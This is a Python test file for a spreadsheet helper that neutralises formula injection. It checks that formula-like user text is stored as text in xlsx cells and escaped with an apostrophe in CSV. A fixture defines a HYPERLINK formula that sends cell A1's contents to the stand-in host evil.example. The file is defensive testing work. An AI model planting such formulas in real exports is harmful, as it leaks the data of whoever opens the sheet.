"""core.spreadsheet: user text that looks like a formula is written as text."""

from __future__ import annotations

import csv
import io

from openpyxl import Workbook, load_workbook

from phoihop.core import spreadsheet

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


def _reopen(book: Workbook):
    out = io.BytesIO()
    book.save(out)
    out.seek(0)
    return load_workbook(out).active


def test_openpyxl_alone_writes_a_formula():
    """The danger is real: without the guard the cell is a formula."""
    book = Workbook()
    book.active.append([HOSTILE])
    assert _reopen(book)["A1"].data_type == "f"


def test_appended_row_is_made_text():
    book = Workbook()
    sheet = book.active
    sheet.append([HOSTILE, "Hội Chữ thập đỏ", -5, "=1+1"])
    spreadsheet.xlsx_text_cells(sheet[sheet.max_row])
    again = _reopen(book)
    assert again["A1"].value == HOSTILE
    assert again["A1"].data_type == "s"
    assert again["B1"].value == "Hội Chữ thập đỏ"
    assert again["C1"].value == -5
    assert again["D1"].data_type == "s"


def test_set_text():
    book = Workbook()
    spreadsheet.set_text(book.active["A1"], "@SUM(A2:A9)")
    spreadsheet.set_text(book.active["A2"], 12)
    again = _reopen(book)
    assert (again["A1"].value, again["A1"].data_type) == ("@SUM(A2:A9)", "s")
    assert again["A2"].value == 12


def test_csv_values():
    out = io.StringIO()
    csv.writer(out).writerow(
        [spreadsheet.csv_value(v) for v in (HOSTILE, "+84 912", "-x", "Xã Mường Chiềng", -3)]
    )
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'" + HOSTILE, "'+84 912", "'-x", "Xã Mường Chiềng", "-3"]
